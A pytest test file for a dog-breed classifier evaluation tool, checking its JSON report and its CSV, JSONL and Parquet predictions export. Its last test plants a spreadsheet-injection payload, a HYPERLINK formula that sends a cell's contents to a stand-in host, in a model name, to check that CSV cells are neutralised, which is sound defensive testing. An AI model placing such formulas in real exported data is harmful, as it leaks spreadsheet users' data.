"""Per-image results leave the tool: ``report RUN --format json`` lists every image, and
``predictions RUN [RUN...] -o FILE`` writes the same values as CSV, JSONL or Parquet that pandas
reads back; an existing file is kept unless ``--force``; a wrong name is a one-line error."""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from sqlalchemy import select

from db.models import Breed, Image, Prediction
from evaluator.pipeline import evaluate
from evaluator.predictions_file import COLUMNS, flat_row, render_predictions
from evaluator.results import PredictedBreed, PredictionRow, RunSummary
from tests.cli.helpers import cli
from tests.fixtures.evaluation import EvalSet, batchable_spec, classic_spec, register
from tests.modelkit import TinyModels


@pytest.fixture
def two_runs(eval_set: EvalSet, tiny_models: TinyModels) -> tuple[int, int]:
    """Two real runs on the same images: the batchable graph in batches of 4, the classic one."""
    register(eval_set.db, tiny_models.batchable_pb, batchable_spec(tiny_models), version="b")
    register(eval_set.db, tiny_models.classic_pb, classic_spec(tiny_models), version="c")
    a = evaluate(eval_set.db, "tiny:b", threads=1, batch=4).run_id
    b = evaluate(eval_set.db, "tiny:c", threads=1).run_id
    return a, b


def stored_table(es: EvalSet, run_id: int) -> dict[int, dict[str, Any]]:
    """The run's rows of the predictions table, read with no evaluator code, by image id."""
    with es.db.session() as s:
        slugs = dict(s.execute(select(Breed.id, Breed.slug)).all())
        rows = s.execute(
            select(Prediction, Image.sha256).join(Image).where(Prediction.run_id == run_id)
        ).all()
        return {
            p.image_id: {
                "image_id": p.image_id,
                "sha256": sha,
                "breed": slugs[p.true_breed_id],
                "rank": p.rank,
                "top5": [{"breed": slugs[b], "probability": q} for b, q in p.top5],
                "latency_ms": p.latency_ms,
            }
            for p, sha in rows
        }


def report_images(es: EvalSet, run_id: int) -> list[dict[str, Any]]:
    code, out = cli(es, "report", run_id, "--format", "json")
    assert code == 0, out
    return json.loads(out)["images"]


def test_report_json_lists_every_image_as_the_predictions_table_has_it(
    eval_set: EvalSet, tiny_models: TinyModels, two_runs: tuple[int, int]
) -> None:
    for run_id in two_runs:
        images = report_images(eval_set, run_id)
        table = stored_table(eval_set, run_id)
        assert [i["image_id"] for i in images] == sorted(table) == eval_set.image_ids
        assert images == [table[i["image_id"]] for i in images]
        for i in images:
            assert i["breed"] == tiny_models.labels[eval_set.labels[i["image_id"]]]
            assert len(i["top5"]) == 4  # the tiny model has 4 classes
            assert (i["rank"] == 1) == (i["top5"][0]["breed"] == i["breed"])
            assert i["latency_ms"] > 0
        assert {i["rank"] for i in images} > {1}  # the faint images: some are missed


def read(path: Path) -> pd.DataFrame:
    """The file as a pandas user reads it, by its extension."""
    if path.suffix == ".csv":
        return pd.read_csv(path)
    if path.suffix == ".jsonl":
        return pd.read_json(path, lines=True)
    return pd.read_parquet(path)


def expected_rows(es: EvalSet, run_ids: tuple[int, int]) -> list[dict[str, Any]]:
    """What every format must hold, flattened from the report's JSON, run by run."""
    rows = []
    for run_id in run_ids:
        version = "b" if run_id == run_ids[0] else "c"
        for image in report_images(es, run_id):
            row = {"run_id": run_id, "model": "tiny", "version": version}
            row |= {k: image[k] for k in ("image_id", "sha256", "breed", "rank")}
            for k in range(1, 6):
                top = image["top5"][k - 1] if k <= len(image["top5"]) else None
                row[f"top{k}_breed"] = top["breed"] if top else None
                row[f"top{k}_prob"] = top["probability"] if top else None
            row["latency_ms"] = image["latency_ms"]
            rows.append(row)
    return rows


def same(a: Any, b: Any) -> bool:
    """Equal, reading a missing value as pandas does (NaN, None) and a version as text."""
    missing = (a is None or (isinstance(a, float) and math.isnan(a)), b is None)
    if any(missing):
        return all(missing)
    if isinstance(b, float):
        return a == pytest.approx(b, rel=1e-12)
    return str(a) == str(b) if isinstance(b, str) else a == b


@pytest.mark.parametrize("ext", [".csv", ".jsonl", ".parquet"])
def test_predictions_file_reads_back_in_pandas(
    eval_set: EvalSet, two_runs: tuple[int, int], tmp_path: Path, ext: str
) -> None:
    path = tmp_path / f"predictions{ext}"
    code, out = cli(eval_set, "predictions", *two_runs, "-o", path, width=200)
    n = len(eval_set.image_ids)
    assert code == 0, out
    assert f"Wrote {2 * n} rows (2 runs)" in out
    frame = read(path)
    assert list(frame.columns) == list(COLUMNS)
    assert len(frame) == 2 * n
    for column in ("run_id", "image_id", "rank"):  # rank: float, NaN where missed (none here)
        assert frame[column].dtype == "int64", column
    for column in ("top1_prob", "top4_prob", "latency_ms"):
        assert frame[column].dtype == "float64", column
    for column in ("model", "version", "sha256", "breed", "top1_breed", "top4_breed"):
        assert pd.api.types.is_string_dtype(frame[column]), column
    assert frame["top5_breed"].isna().all() and frame["top5_prob"].isna().all()
    expected = expected_rows(eval_set, two_runs)
    got = frame.to_dict("records")
    for want, have in zip(expected, got, strict=True):
        bad = {k: (have[k], want[k]) for k in COLUMNS if not same(have[k], want[k])}
        assert not bad, bad


def test_an_existing_file_is_replaced_only_with_force(
    eval_set: EvalSet, two_runs: tuple[int, int], tmp_path: Path
) -> None:
    path = tmp_path / "mine.csv"
    path.write_text("precious\n")
    code, out = cli(eval_set, "predictions", two_runs[0], "-o", path)
    assert code == 1 and "mine.csv exists" in out and "--force" in out
    assert path.read_text() == "precious\n"
    code, out = cli(eval_set, "predictions", two_runs[0], "-o", path, "--force")
    assert code == 0, out
    assert len(pd.read_csv(path)) == len(eval_set.image_ids)


def test_bad_names_and_runs_are_one_line_errors_that_write_nothing(
    eval_set: EvalSet, two_runs: tuple[int, int], tmp_path: Path
) -> None:
    folder = tmp_path / "out"
    (folder / "set.csv").mkdir(parents=True)
    code, out = cli(eval_set, "predictions", two_runs[0], "-o", folder / "p.xlsx")
    assert code == 1
    assert out.strip().splitlines() == [
        "Error: p.xlsx has extension '.xlsx': a predictions file is .csv, .jsonl or .parquet"
    ]
    code, out = cli(eval_set, "predictions", two_runs[0], 999, "-o", folder / "p.parquet")
    assert code == 1 and "no evaluation run 999" in out and len(out.strip().splitlines()) == 1
    code, out = cli(eval_set, "predictions", two_runs[0], "-o", folder)
    assert code == 1 and "out has no extension" in out
    code, out = cli(eval_set, "predictions", two_runs[0], "-o", folder / "set.csv", "--force")
    assert code == 1 and "set.csv is a folder" in out
    assert [p.name for p in folder.iterdir()] == ["set.csv"]
    assert list((folder / "set.csv").iterdir()) == []


def test_csv_text_cells_never_start_a_formula() -> None:
    """Model and version names come from people: in the CSV none runs in a spreadsheet, while
    numbers (probabilities, latency) stay numbers."""
    run = RunSummary(
        id=3, model_name='=HYPERLINK("http://127.0.0.2/?"&A1,"pug")', version="@SUM(1)",
        status="finished", version_id=1, format="tflite", started_at=None,  # type: ignore[arg-type]
        finished_at=None, dataset_hash=None, n_images=1, top1=0, top3=0, top5=0, macro_top1=0,
        throughput_ips=0, latency_p50_ms=0, latency_p95_ms=0, model_size_bytes=0,
    )  # fmt: skip
    row = PredictionRow(
        image_id=7, sha256="ab" * 32, image_path="x", thumb_path=None, true_breed_id=1,
        true_slug="-pug", true_name="Pug", rank=None, latency_ms=-0.5,
        top5=[PredictedBreed(2, "+beagle", "Beagle", 0.25)],
    )  # fmt: skip
    text = render_predictions([flat_row(run, row)], "csv").decode()
    record = next(csv.DictReader(io.StringIO(text)))
    assert record["model"] == "'" + run.model_name
    assert (record["version"], record["breed"], record["top1_breed"]) == (
        "'@SUM(1)",
        "'-pug",
        "'+beagle",
    )
    assert (record["top1_prob"], record["latency_ms"], record["rank"]) == ("0.25", "-0.5", "")
    # JSONL and Parquet are read by programs: the names stay exactly as they are
    jsonl = json.loads(render_predictions([flat_row(run, row)], "jsonl"))
    assert jsonl["model"] == run.model_name and jsonl["rank"] is None
